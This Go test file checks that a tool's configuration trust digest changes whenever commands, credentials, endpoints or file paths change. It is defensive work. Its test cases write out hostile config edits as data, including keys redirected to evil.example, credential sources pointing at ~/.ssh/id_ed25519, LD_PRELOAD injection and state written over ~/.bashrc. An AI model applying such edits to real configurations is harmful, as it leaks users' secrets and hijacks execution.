package trust_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/flowgate-go/flowgate/internal/config"
	"github.com/flowgate-go/flowgate/internal/fault"
	"github.com/flowgate-go/flowgate/internal/trust"
)

const text = `config_version: 2
paths: {runtime_dir: ../.router/runtime, active_config: ../.router/runtime/a.yaml, state_file: ../.router/runtime/s.json, log_file: ../.router/runtime/e.log}
services:
  litellm: {port: 4000, runtime: embedded}
  cliproxyapi_plus:
    port: 8317
    command: {args: [serve, "--one"], cwd: ..}
    env: {NAME: value}
    probes: {readiness: {command: [probe, "--two"]}}
credentials:
  upstream: {mine: {file: /etc/mine.key}, inside: {file: ../.router/secrets/inside.key}}
litellm_base:
  model_list:
    - {model_name: a, litellm_params: {model: openai/a, api_base: "https://example.com/v1", api_key: os.environ/MINE}}
    - {model_name: b, litellm_params: {model: openai/b, api_base: "http://127.0.0.1:8317/v1", api_key_ref: mine}}
  litellm_settings: {num_retries: 1, callbacks: [mymodule.hook]}
profiles: {p: {litellm_settings: {num_retries: 2}}}
auth:
  providers: {codex: {methods: [command], command: [signin], token_url: "https://example.com/token"}}
secret_files: [~/elsewhere.json]
`

// install writes a configuration into a project of its own and loads it.
func install(t *testing.T, dir, text string) *config.Config {
	t.Helper()
	file := filepath.Join(dir, "config", "flowgate.yaml")
	if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	cfg, err := config.Load(file, home)
	if err != nil {
		t.Fatalf("%v: %+v", err, fault.From(err).Detail)
	}
	return cfg
}

func home(name string) string {
	if name == "HOME" {
		return "/home/somebody"
	}
	return os.Getenv(name)
}

func digest(t *testing.T, text string) string {
	t.Helper()
	return trust.SurfaceOf(install(t, t.TempDir(), text), "/home/somebody").Digest()
}

func TestAChangeOfWhatIsExecutedWrittenOrSentChangesTheDigestInEveryFolder(t *testing.T) {
	t.Parallel()
	want := digest(t, text)
	if got := digest(t, text); got != want {
		t.Fatalf("in another folder it is %s, not %s", got, want)
	}
	for _, edit := range [][2]string{
		{"runtime: embedded", "runtime: litellm"}, {"--one", "--other"}, {"cwd: ..", "cwd: /"},
		{"NAME: value", "NAME: other"}, {"NAME: value", "LD_PRELOAD: x.so"},
		{"--two", "--other"}, {"/etc/mine.key", "/etc/other.key"}, {"mymodule.hook", "other.hook"},
		{"https://example.com/v1", "https://evil.example/v1"},
		{"os.environ/MINE", "os.environ/OTHER"}, {"[signin]", "[other]"}, {"example.com/token", "evil.example/token"},
		{"~/elsewhere.json", "~/.ssh/id_ed25519"},
		{"state_file: ../.router/runtime/s.json", "state_file: ~/.bashrc"},
		{"log_file: ../.router/runtime/e.log", "log_file: /tmp/e.log"},
		{"active_config: ../.router/runtime/a.yaml", "active_config: ../README.md"},
		{"runtime_dir: ../.router/runtime", "runtime_dir: ~/public"},
		{"num_retries: 2}", "num_retries: 2, success_callback: [x.y]}"},
		{"http://127.0.0.1:8317/v1", "http://10.0.0.1:8317/v1"},
		// Keys that go elsewhere in a header, in the address itself, or with an address in parts.
		{`model: openai/b, api_base: "http://127.0.0.1:8317/v1", api_key_ref: mine`,
			`model: openai/b, api_base: "https://evil.example/v1", extra_headers: {X: os.environ/MINE}`},
		{`model: openai/b, api_base: "http://127.0.0.1:8317/v1", api_key_ref: mine`,
			`model: openai/b, api_base: "https://evil.example/${MINE}"`},
		{"num_retries: 1,", "num_retries: 1, cache_params: {type: redis, host: evil.example, password: os.environ/MINE},"},
		{"  litellm_settings: {num_retries: 1", "  general_settings: {pass_through_endpoints: [{path: /x, target: " +
			"\"https://evil.example\", headers: {Authorization: os.environ/MINE}}]}\n  litellm_settings: {num_retries: 1"},
		{"mine: {file: /etc/mine.key}", "mine: {env: GITHUB_TOKEN}"},
		// Routers that share their state log in there, with a password that no setting may name (REDIS_PASSWORD).
		{"  litellm_settings: {num_retries: 1", "  router_settings: {redis_host: evil.example}\n  litellm_settings: {num_retries: 1"},
		{"  litellm_settings: {num_retries: 1", "  router_settings: {redis_url: \"rediss://evil.example/0\"}\n  litellm_settings: " +
			"{num_retries: 1"},
		{"  litellm_settings: {num_retries: 1", "  router_settings: {redis_url: os.environ/MINE}\n  litellm_settings: {num_retries: 1"},
		{"  litellm_settings: {num_retries: 1", "  router_settings: {cache_kwargs: {password: os.environ/MINE}}\n  litellm_settings: " +
			"{num_retries: 1"},
		// Keys without an address: they go to the provider, or wherever the setting's program sends them.
		{`model: openai/b, api_base: "http://127.0.0.1:8317/v1", api_key_ref: mine`, `model: openai/b, api_key_ref: mine`},
		{`model: openai/b, api_base: "http://127.0.0.1:8317/v1", api_key_ref: mine`,
			`model: openai/b, extra_headers: {X: os.environ/MINE}`},
		{"num_retries: 1,", "num_retries: 1, cache_params: {type: redis, password: os.environ/MINE},"},
		{"num_retries: 1,", "num_retries: 1, some_tokens: [os.environ/MINE],"},
		// Addresses that get keys which no setting names: those of the environment and of the user's files.
		{`model: openai/b, api_base: "http://127.0.0.1:8317/v1", api_key_ref: mine`,
			`model: openai/b, api_base: "https://evil.example"`},
		{`model: openai/b, api_base: "http://127.0.0.1:8317/v1", api_key_ref: mine`,
			`model: bedrock/b, aws_bedrock_runtime_endpoint: "https://evil.example"`},
		{`model: openai/b, api_base: "http://127.0.0.1:8317/v1", api_key_ref: mine`,
			`model: bedrock/b, aws_role_name: r, aws_web_identity_token: ~/.ssh/id_ed25519, aws_sts_endpoint: evil.example`},
		{`model: openai/b, api_base: "http://127.0.0.1:8317/v1", api_key_ref: mine`, `model: bedrock/b, aws_profile_name: x`},
		{`model: openai/b, api_base: "http://127.0.0.1:8317/v1", api_key_ref: mine`, `model: vertex_ai/b, vertex_credentials: ` +
			`{type: external_account, token_url: "https://evil.example", credential_source: {file: ~/.ssh/id_ed25519}}`},
		{"  litellm_settings: {num_retries: 1", "  environment_variables: {OTEL_EXPORTER_OTLP_ENDPOINT: " +
			"\"https://evil.example\"}\n  litellm_settings: {num_retries: 1"},
		{"  litellm_settings: {num_retries: 1", "  environment_variables: {AWS_CONFIG_FILE: ./evil}\n  litellm_settings: " +
			"{num_retries: 1"},
		// What other machines reach.
		{"port: 4000", "port: 4000, host: 0.0.0.0"}, {"port: 4000", "port: 4000, host: \"::\""},
		{"port: 4000", "port: 4000, host: 192.0.2.7"},
	} {
		if !strings.Contains(text, edit[0]) {
			t.Fatalf("the text has no %q", edit[0])
		}
		if got := digest(t, strings.Replace(text, edit[0], edit[1], 1)); got == want {
			t.Errorf("%q for %q does not ask again", edit[1], edit[0])
		}
	}
	for _, edit := range [][2]string{
		{"port: 4000", "port: 4001"}, {"num_retries: 1", "num_retries: 5"}, {"model_name: b", "model_name: c"},
		{"config_version: 2", "config_version: 2\n# a comment"},
		{"inside.key", "other.key"}, {"num_retries: 2}}",
			"num_retries: 2}}, q: {router_settings: {routing_strategy: simple-shuffle}}"},
		{"model: openai/b", "model: openai/c"}, {"api_key_ref: mine}",
			"api_key_ref: mine, extra_headers: {X: os.environ/MINE}}"},
		{"num_retries: 1,", "num_retries: 1, cache_params: {type: redis, host: localhost, password: os.environ/MINE},"},
		{"  litellm_settings: {num_retries: 1", "  router_settings: {redis_host: localhost, redis_password: os.environ/MINE}\n" +
			"  litellm_settings: {num_retries: 1"},
		{"port: 4000", "port: 4000, host: 127.0.0.2"}, {"port: 4000", "port: 4000, host: localhost"},
		{"port: 4000", "port: 4000, host: \"::1\""},
		{"  litellm_settings: {num_retries: 1", "  general_settings: {master_key: os.environ/MINE}\n  litellm_settings: " +
			"{num_retries: 1"},
		{"  litellm_settings: {num_retries: 1", "  general_settings: {master_key_ref: mine}\n  litellm_settings: " +
			"{num_retries: 1"},
	} {
		if got := digest(t, strings.Replace(text, edit[0], edit[1], 1)); got != want {
			t.Errorf("%q for %q asks again", edit[1], edit[0])
		}
	}
}

// TestAKeyWithoutAnAddressBelongsToItsProvider: another model of the same provider
// is an ordinary edit, another provider gets the key.
func TestAKeyWithoutAnAddressBelongsToItsProvider(t *testing.T) {
	t.Parallel()
	deployment := func(params string) string {
		return strings.Replace(text, `model: openai/b, api_base: "http://127.0.0.1:8317/v1", api_key_ref: mine`, params, 1)
	}
	want := digest(t, deployment("model: anthropic/a, api_key_ref: mine"))
	for params, same := range map[string]bool{
		"model: anthropic/b, api_key_ref: mine":                                     true,
		"model: gemini/b, api_key_ref: mine":                                        false,
		"model: anthropic/a, custom_llm_provider: gemini, api_key_ref: mine":        false,
		"model: anthropic/a, api_key: os.environ/GITHUB_TOKEN":                      false,
		"model: anthropic/a, api_key_ref: mine, api_base: \"https://evil.example\"": false,
	} {
		if got := digest(t, deployment(params)); (got == want) != same {
			t.Errorf("%s: asks again: %v", params, got != want)
		}
	}
}

func TestNoSecretIsShown(t *testing.T) {
	t.Parallel()
	const secret = "sk-proj-0123456789abcdef0123456789abcdef"
	cfg := install(t, t.TempDir(), strings.Replace(text, "NAME: value", "API_KEY: "+secret, 1))
	v := trust.Examine(trust.Subject{Config: cfg, Named: true, Getenv: home})
	if shown := strings.Join(v.Lines(), "\n"); strings.Contains(shown, secret) || !strings.Contains(shown, "API_KEY") {
		t.Error(shown)
	}
}

func TestTrustIsRecordedByFileAndFolderAndTakenBack(t *testing.T) {
	t.Parallel()
	state := t.TempDir()
	getenv := func(name string) string {
		if name == "XDG_STATE_HOME" {
			return state
		}
		return home(name)
	}
	dir := t.TempDir()
	cfg := install(t, dir, text)
	examine := func(c *config.Config, given string) trust.Verdict {
		return trust.Examine(trust.Subject{Config: c, Given: given, Named: true, Getenv: getenv})
	}
	if v := examine(cfg, ""); v.Trusted || v.Known || fault.From(v.Fault()).Code != "not-trusted" ||
		fault.From(v.Fault()).Exit != fault.ExitUsage {
		t.Fatalf("%+v", v)
	}
	if v := examine(cfg, examine(cfg, "").Digest); !v.Trusted {
		t.Errorf("with its digest: %+v", v)
	}
	if v := examine(cfg, "sha256:00"); v.Trusted {
		t.Errorf("with another digest: %+v", v)
	}
	if _, err := trust.WriteRecord(cfg, "trust", time.Now(), getenv); err != nil {
		t.Fatal(err)
	}
	if v := examine(cfg, ""); !v.Trusted {
		t.Errorf("recorded: %+v", v)
	}
	if v := examine(install(t, t.TempDir(), text), ""); v.Trusted {
		t.Error("the same text in another folder is trusted")
	}
	if v := examine(install(t, dir, strings.Replace(text, "--one", "--other", 1)), ""); v.Trusted || !v.Known {
		t.Errorf("another command: %+v", v)
	}
	if r, ok := trust.FindRecordOf(cfg.File, getenv); !ok || r.Root != trust.Place(cfg.Paths.Root()) {
		t.Errorf("%+v, %v", r, ok)
	}
	if all, err := trust.ListRecords(getenv); err != nil || len(all) != 1 {
		t.Errorf("%v, %v", all, err)
	}
	if had, err := trust.RemoveRecord(cfg, getenv); err != nil || !had {
		t.Errorf("%v, %v", had, err)
	}
	if v := examine(cfg, ""); v.Trusted {
		t.Error("revoked, and still trusted")
	}
	if had, err := trust.RemoveRecord(cfg, getenv); err != nil || had {
		t.Errorf("a second time: %v, %v", had, err)
	}
}

func TestAConfigurationThatOthersCanReplaceIsNotObeyedUnlessNamedByHand(t *testing.T) {
	t.Parallel()
	for name, open := range map[string]func(dir string) error{
		"the file":       func(dir string) error { return os.Chmod(filepath.Join(dir, "config", "flowgate.yaml"), 0o666) },
		"its folder":     func(dir string) error { return os.Chmod(filepath.Join(dir, "config"), 0o777) },
		"a folder above": func(dir string) error { return os.Chmod(dir, 0o777) },
	} {
		dir := t.TempDir()
		cfg := install(t, dir, text)
		if _, err := trust.WriteRecord(cfg, "trust", time.Now(), home); err != nil {
			t.Fatal(err)
		}
		if v := trust.Examine(trust.Subject{Config: cfg, Getenv: home}); !v.Trusted {
			t.Fatalf("%s: before: %+v", name, v)
		}
		if err := open(dir); err != nil {
			t.Fatal(err)
		}
		if v := trust.Examine(trust.Subject{Config: cfg, Getenv: home}); v.Trusted || !v.Foreign ||
			fault.From(v.Fault()).Code != "not-yours" {
			t.Errorf("%s can be written by others: %+v", name, v)
		}
		if v := trust.Examine(trust.Subject{Config: cfg, Named: true, Getenv: home}); !v.Trusted {
			t.Errorf("%s, named by hand: %+v", name, v)
		}
	}
}

// TestEachPartOfWhereRoutersShareTheirStateIsInTheDigest: a change of the host, the port or the password of a
// Redis elsewhere asks again.
func TestEachPartOfWhereRoutersShareTheirStateIsInTheDigest(t *testing.T) {
	t.Parallel()
	const redis = "  router_settings: {redis_host: redis.example, redis_port: 6379, redis_password: os.environ/MINE, " +
		"cache_kwargs: {ssl: true, username: os.environ/USER_NAME}}\n"
	shared := strings.Replace(text, "  litellm_settings: {num_retries: 1", redis+"  litellm_settings: {num_retries: 1", 1)
	want := digest(t, shared)
	for _, edit := range [][2]string{
		{"redis.example", "evil.example"}, {"6379", "6380"}, {"redis_password: os.environ/MINE", "redis_password: os.environ/OTHER"},
		{"os.environ/USER_NAME", "os.environ/OTHER"}, {"ssl: true", "ssl: false"},
	} {
		if got := digest(t, strings.Replace(shared, edit[0], edit[1], 1)); got == want {
			t.Errorf("%q for %q does not ask again", edit[1], edit[0])
		}
	}
}
